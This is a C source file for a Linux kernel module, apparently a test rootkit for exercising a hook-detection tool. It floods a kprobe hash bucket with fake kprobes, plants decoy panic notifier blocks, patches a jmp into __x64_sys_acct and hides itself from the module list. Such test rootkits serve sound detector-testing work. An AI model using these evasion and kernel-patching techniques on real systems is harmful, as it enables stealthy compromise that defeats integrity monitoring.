// SPDX-License-Identifier: GPL-2.0
/*
 * hookblind - a test rootkit that blinds an outside reader's hook checks
 * before it hooks: decoys on lists the kernel seldom follows, then a
 * notifier block and an inline hook from a module that hides itself.
 *
 * insmod hookblind.ko [kpflood=N] [kpfake=1] [nb=1] [hook=1] [hide=1]
 * kpflood=N links N fake struct kprobes (marked gone, at address 0: every
 * walk of the kernel's passes over them) at the head of one bucket of
 * kprobe_table, more than a reader bounding its walk at a few thousand
 * reads: a reader that then calls the table unread cannot excuse a
 * kprobe's bytes, and so stops judging kernel text.  The bucket is one
 * kallsyms_lookup_name (where the other test rootkits put their kprobe)
 * does not hash to.  With kpfake=1 the first of them is no longer gone:
 * it claims the address where hook=1 writes its jmp (what an optimized
 * kprobe writes at its address is a jmp too).
 * nb=1 heads panic_notifier_list with a notifier block linked to itself
 * (its call a function of core text); nb=2 with one whose next is
 * LIST_POISON1.  The kernel follows that chain only when it panics.
 * hook=1 registers a notifier block on module_notify_list and writes
 * "jmp hook" over __x64_sys_acct's own first instruction (past its endbr64
 * and ftrace site; the function is never called here), as hookinl.c does; the handlers' addresses are in the parameters
 * nb_handler and handler, the site in site, and in the kernel log.
 * hide=1 then hides the module (rkit.h).
 *
 * echo 1 >/proc/hookblind (or rmmod, when listed) undoes all of it and
 * links a hidden module back (it then cannot be unloaded).  x86-64 only.
 * For testing only; loaded in a disposable test guest.
 */
#include <linux/hash.h>
#include <linux/notifier.h>
#include <linux/proc_fs.h>
#include <linux/vmalloc.h>

#include "rkit.h"

static int kpflood;
module_param(kpflood, int, 0444);
static int kpfake;
module_param(kpfake, int, 0444);
static int nb;
module_param(nb, int, 0444);
static int hook = 1;
module_param(hook, int, 0444);
static int hide = 1;
module_param(hide, int, 0444);
static int bucket = -1;
module_param(bucket, int, 0444);
static ulong site, handler, nb_handler;
module_param(site, ulong, 0444);
module_param(handler, ulong, 0444);
module_param(nb_handler, ulong, 0444);

#define TABLE_BITS 6	/* KPROBE_HASH_BITS */

static struct hlist_head *table;
static struct kprobe *fakes;
static struct hlist_node *first_was;

static struct atomic_notifier_head *panic_list;
static struct notifier_block decoy, *head_was;
static bool decoy_on;

static u8 saved[5];
static bool patched, mnb_on;

static long hook_fn(const struct pt_regs *regs)
{
	return -EPERM;
}

static int mnb_call(struct notifier_block *b, unsigned long action, void *data)
{
	return NOTIFY_DONE;
}

static struct notifier_block mnb = { .notifier_call = mnb_call };

static int flood(void)
{
	unsigned long kln = rkit_lookup("kallsyms_lookup_name");
	int i;

	table = (void *)rkit_lookup("kprobe_table");
	if (!table || !kln)
		return -ENOENT;
	fakes = vzalloc(array_size(kpflood, sizeof(*fakes)));
	if (!fakes)
		return -ENOMEM;
	for (i = 0; i < (1 << TABLE_BITS) && bucket < 0; i++)	/* an empty one */
		if (i != hash_ptr((void *)kln, TABLE_BITS) && !table[i].first)
			bucket = i;
	for (i = 0; i < (1 << TABLE_BITS) && bucket < 0; i++)
		if (i != hash_ptr((void *)kln, TABLE_BITS))
			bucket = i;
	first_was = table[bucket].first;
	for (i = 0; i < kpflood; i++) {
		fakes[i].flags = KPROBE_FLAG_GONE;
		fakes[i].hlist.next = i + 1 < kpflood ? &fakes[i + 1].hlist : first_was;
		fakes[i].hlist.pprev = i ? &fakes[i - 1].hlist.next : &table[bucket].first;
	}
	if (kpfake) {
		fakes[0].flags = 0;
		fakes[0].addr = (kprobe_opcode_t *)site;
	}
	rcu_assign_pointer(table[bucket].first, &fakes[0].hlist);
	return 0;
}

static void unflood(void)
{
	if (!fakes)
		return;
	rcu_assign_pointer(table[bucket].first, first_was);
	synchronize_rcu();
	vfree(fakes);
	fakes = NULL;
}

static int plant_decoy(void)
{
	panic_list = (void *)rkit_lookup("panic_notifier_list");
	if (!panic_list)
		return -ENOENT;
	decoy.notifier_call = (void *)rkit_lookup("kfree");
	decoy.next = nb == 2 ? (struct notifier_block *)LIST_POISON1 : &decoy;
	head_was = panic_list->head;
	rcu_assign_pointer(panic_list->head, &decoy);
	decoy_on = true;
	return 0;
}

static void unplant_decoy(void)
{
	if (!decoy_on)
		return;
	rcu_assign_pointer(panic_list->head, head_was);
	synchronize_rcu();
	decoy_on = false;
}

/* __x64_sys_acct's own first instruction: past an endbr64 and the ftrace
 * site (a nop, or a call when traced), so that what judges the jmp is no
 * site of the kernel's own */
static int find_site(void)
{
	const u8 *p = (const u8 *)rkit_lookup(RKIT_SYS(acct));

	if (!p)
		return -ENOENT;
	if (!memcmp(p, "\xf3\x0f\x1e\xfa", 4))
		p += 4;
	if (!memcmp(p, "\x0f\x1f\x44\x00\x00", 5) || p[0] == 0xe8)
		p += 5;
	site = (ulong)p;
	return 0;
}

static int plant_hooks(void)
{
	u8 jmp[5] = { 0xe9 };
	s32 rel;
	int ret;

	ret = register_module_notifier(&mnb);
	if (ret)
		return ret;
	mnb_on = true;
	handler = (ulong)hook_fn;
	nb_handler = (ulong)mnb_call;
	rel = (s32)(handler - (site + 5));
	memcpy(jmp + 1, &rel, 4);
	memcpy(saved, (void *)site, 5);
	rkit_poke((void *)site, jmp, 5);
	patched = true;
	return 0;
}

static void undo_all(void)
{
	if (patched)
		rkit_poke((void *)site, saved, 5);
	patched = false;
	if (mnb_on)
		unregister_module_notifier(&mnb);
	mnb_on = false;
	unplant_decoy();
	unflood();
}

static ssize_t ctl_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
{
	undo_all();
	rkit_unhide();
	pr_info(KBUILD_MODNAME ": undone, module listed\n");
	return len;
}

static const struct proc_ops ctl_ops = {
	.proc_write = ctl_write,
};

static int __init hookblind_init(void)
{
	int ret = 0;

	if (hide && !proc_create(KBUILD_MODNAME, 0200, NULL, &ctl_ops))
		return -ENOMEM;
	ret = find_site();
	if (!ret && kpflood > 0)
		ret = flood();
	if (!ret && nb)
		ret = plant_decoy();
	if (!ret && hook)
		ret = plant_hooks();
	if (!ret && hide)
		ret = rkit_hide();
	if (ret) {
		undo_all();
		if (hide)
			remove_proc_entry(KBUILD_MODNAME, NULL);
		return ret;
	}
	pr_info(KBUILD_MODNAME ": kpflood %d kpfake %d bucket %d nb %d; %pS at %lx: jmp %lx nb %lx\n",
		kpflood, kpfake, bucket, nb, (void *)site, site, handler, nb_handler);
	return 0;
}

static void __exit hookblind_exit(void)
{
	undo_all();
	if (hide)
		remove_proc_entry(KBUILD_MODNAME, NULL);
}

module_init(hookblind_init);
module_exit(hookblind_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("argus test rootkit: hook checks blinded by decoys, then hooks from a hidden module");
